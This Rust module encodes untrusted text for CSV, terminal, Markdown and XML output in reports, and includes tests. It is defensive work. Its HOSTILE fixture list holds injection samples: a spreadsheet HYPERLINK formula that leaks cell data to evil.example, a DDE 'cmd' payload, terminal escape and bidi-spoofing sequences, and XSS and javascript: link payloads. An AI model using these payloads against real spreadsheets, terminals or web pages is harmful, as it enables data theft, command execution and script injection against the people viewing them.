//! Output encoding per sink, shared by every report writer: text a model or
//! a server chose (tool names, reasons, model names) is data, and each sink
//! gets it in a form that cannot act as anything else there — a formula in
//! a spreadsheet, an escape sequence on a terminal, markup or a link in
//! Markdown, a character that breaks XML. Harmless text comes out as it went
//! in, so ordinary reports keep their bytes.

use std::borrow::Cow;
use std::fmt::Write;

/// A CSV text cell made safe for spreadsheets (the OWASP rule): a cell that
/// would start a formula — `=`, `+`, `-`, `@` (or their full-width forms),
/// also after leading whitespace, or a leading tab or carriage return — gets
/// a leading `'`. For text columns only: a numeric column is never passed here.
pub fn csv_text(cell: &str) -> Cow<'_, str> {
    let starts_formula = |c: char| matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠');
    let first = cell.chars().next();
    let after_space = cell.trim_start().chars().next();
    if first.is_some_and(|c| matches!(c, '\t' | '\r' | '\n')) || after_space.is_some_and(starts_formula) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a terminal (or a reader of the text) could take `c` for anything
/// but a character: C0 and C1 controls (newline and tab too, inside a cell),
/// DEL, and the invisible marks that reorder, hide or break text (bidi
/// overrides, embeddings and isolates, zero-width spaces and joiners, the
/// byte-order mark, line and paragraph separators).
fn is_control(c: char) -> bool {
    c.is_control() // C0, DEL, C1
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}' | '\u{061c}' | '\u{2028}' | '\u{2029}')
}

/// Outside text for the terminal a line at a time: each line as
/// [`terminal`] writes it, the line breaks kept as line breaks.
pub fn terminal_lines(text: &str) -> String {
    text.lines().map(terminal).collect::<Vec<_>>().join("\n")
}

/// Text for a terminal: every control character shown escaped (`\x1b`,
/// `\n`, `\u{202e}`), so no screen clear, colour, hyperlink, moved cursor,
/// reordered or broken line comes from the text.
pub fn terminal(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_control) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if is_control(c) && (c as u32) < 0x80 => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c if is_control(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// An invisible break (a zero-width space, as an entity so the file shows
/// it) that keeps GitHub from turning `@name`, `#123`, `http://` and `www.`
/// into mentions, references and links.
const BREAK: &str = "&#8203;";

/// Text for one Markdown table cell or line (GitHub-flavoured): no raw HTML
/// or entities (`<`, `>`, `&` as entities), no links or images (a `]`
/// before `(` or `[` escaped), no emphasis, strike-through, code-escape tricks or
/// math (`\`, `*`, `~`, `$` escaped; `_` unless inside a word), no table
/// breaks (`|` escaped, newlines and other controls shown as `\n` …), and no
/// mentions, issue references or autolinks (a zero-width break after `@`
/// and `#`, inside `://` and after `www`). Backticks stay: a code span is
/// inert, and reasons quote names in them.
pub fn markdown(text: &str) -> String {
    let text = terminal(text);
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len() + 8);
    let word = |i: Option<usize>| i.and_then(|i| chars.get(i)).is_some_and(|c| c.is_alphanumeric());
    let space = |i: Option<usize>| i.and_then(|i| chars.get(i)).is_none_or(|c| c.is_whitespace());
    for (i, &c) in chars.iter().enumerate() {
        let (before, after) = (i.checked_sub(1), Some(i + 1));
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '|' | '~' | '$' => {
                out.push('\\');
                out.push(c);
            }
            // A link or image needs `](` or `][` (a reference needs a
            // definition, which cannot start inside a cell): a `]` there is
            // escaped; other brackets (`['a', 'b']`) stay as written.
            ']' if matches!(chars.get(i + 1), Some('(' | '[')) => out.push_str("\\]"),
            // A lone `*` between spaces (the Pareto marker) cannot open or close anything.
            '*' if !(space(before) && space(after)) => out.push_str("\\*"),
            // An underscore inside a word cannot either (`read_file`).
            '_' if !(word(before) && word(after)) => out.push_str("\\_"),
            '@' | '#' if word(after) => {
                out.push(c);
                out.push_str(BREAK);
            }
            ':' if chars.get(i + 1..i + 3) == Some(&['/', '/']) => {
                out.push(':');
                out.push_str(BREAK);
            }
            '.' if i >= 3 && chars[i - 3..i].iter().collect::<String>().eq_ignore_ascii_case("www") => {
                out.push_str(BREAK);
                out.push('.');
            }
            c => out.push(c),
        }
    }
    out
}

/// Whether XML 1.0 can carry `c` at all (its `Char` production; surrogates
/// cannot occur in a Rust string).
fn xml_char(c: char) -> bool {
    !matches!(c, '\u{0}'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{fffe}' | '\u{ffff}')
}

/// Text for XML (or HTML) element content or an attribute: markup
/// characters as entities, a carriage return as a character reference (a
/// parser would turn a raw one into a newline), and characters XML 1.0
/// forbids as U+FFFD.
pub fn xml(text: &str) -> String {
    xml_with(text, false)
}

/// Text for an XML attribute value: as [`xml`], and tab and newline as
/// character references too, which attribute normalisation would otherwise
/// turn into spaces.
pub fn xml_attribute(text: &str) -> String {
    xml_with(text, true)
}

fn xml_with(text: &str, attribute: bool) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\r' => out.push_str("&#13;"),
            '\n' if attribute => out.push_str("&#10;"),
            '\t' if attribute => out.push_str("&#9;"),
            c if !xml_char(c) => out.push('\u{fffd}'),
            c => out.push(c),
        }
    }
    out
}

/// Hostile texts every writer's tests feed through: formulas, terminal
/// escapes, an OSC 8 hyperlink, bidi overrides, HTML, Markdown links and
/// images, mentions, table breaks, characters XML forbids. Public (and
/// hidden) because the report writers' tests live in another crate.
#[doc(hidden)]
pub const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\t=1",
    "\r=1",
    "＝1+1",
    "\u{1b}[2J\u{1b}[Hcleared",
    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "\u{9b}31mred",
    "abc\u{202e}fdp.exe",
    "\u{2066}isolated\u{2069}",
    "line\nbreak\rreturn",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "[ref]: http://evil.example",
    "@channel @here #123",
    "see https://evil.example and www.evil.example",
    "mail me at a@evil.example",
    "a|b|c",
    "**bold** _em_ ~~strike~~ $x^2$",
    "<!-- hidden -->",
    "&lt;script&gt;",
    "\\[escaped\\](x)",
    "nul\u{0}bell\u{7}ff\u{c}\u{fffe}\u{ffff}",
    "]]><x/>",
    "# heading",
    "`code | cell`",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_formulas_get_a_leading_quote_and_other_text_is_untouched() {
        for cell in ["=1+1", "+1", "-1", "@x", "  =1", "\t1", "\r1", "\n=1", "＝1", " \u{3000}-x"] {
            assert_eq!(csv_text(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["read_file", "", "1-2", "a=b", "sim-cheap *", "—", "'already"] {
            assert_eq!(csv_text(cell), cell);
        }
    }

    #[test]
    fn terminal_text_has_no_control_characters_left() {
        assert_eq!(terminal("a\u{1b}[2Jb"), "a\\x1b[2Jb");
        assert_eq!(terminal("x\ny\tz\r"), "x\\ny\\tz\\r");
        assert_eq!(terminal("\u{9b}\u{7f}\u{202e}\u{2069}"), "\\u{9b}\\x7f\\u{202e}\\u{2069}");
        assert!(matches!(terminal("read_file µs — ok"), Cow::Borrowed(_)));
        for s in HOSTILE {
            let t = terminal(s);
            assert!(!t.chars().any(is_control), "{t:?}");
        }
    }

    #[test]
    fn markdown_cannot_make_markup_links_or_mentions() {
        assert_eq!(markdown("<img src=x onerror=alert(1)>"), "&lt;img src=x onerror=alert(1)&gt;");
        assert_eq!(markdown("![x](http://e.x/p.png)"), "![x\\](http:&#8203;//e.x/p.png)");
        assert_eq!(markdown("[a][b] [c]"), "[a\\][b] [c]");
        assert_eq!(markdown("@channel #12 www.e.x"), "@&#8203;channel #&#8203;12 www&#8203;.e.x");
        assert_eq!(markdown("a|b\nc"), "a\\|b\\\\nc");
        assert_eq!(markdown("**b** _e_ ~s~ $m$"), "\\*\\*b\\*\\* \\_e\\_ \\~s\\~ \\$m\\$");
        // Ordinary reasons and names keep their bytes.
        for s in [
            "Expected one of ['a', 'b'] [1]",
            "read_file",
            "`read_file`: missing argument `target_file`",
            "sim-cheap *",
            "step limit (4) reached",
            "a - b. c!",
        ] {
            assert_eq!(markdown(s), s);
        }
        for s in HOSTILE {
            let m = markdown(s);
            let unescaped = m.replace("\\\\", "").replace("\\]", "");
            assert!(
                !unescaped.contains("](") && !unescaped.contains("][") && !unescaped.contains(['<', '\n']) && !m.contains("://"),
                "{m}"
            );
            assert!(!m.replace("\\|", "").contains('|'), "{m}");
        }
    }

    #[test]
    fn xml_text_is_always_xml_1_0() {
        assert_eq!(xml("a<b & \"c\" 'd'>\u{1}"), "a&lt;b &amp; &quot;c&quot; &apos;d&apos;&gt;\u{fffd}");
        assert_eq!(xml("\u{fffe}\u{ffff}\r\n\t]]>"), "\u{fffd}\u{fffd}&#13;\n\t]]&gt;");
        assert_eq!(xml_attribute("a\tb\nc\rd"), "a&#9;b&#10;c&#13;d");
        for s in HOSTILE {
            assert!(xml(s).chars().all(|c| xml_char(c) && c != '<'), "{s:?}");
        }
    }
}
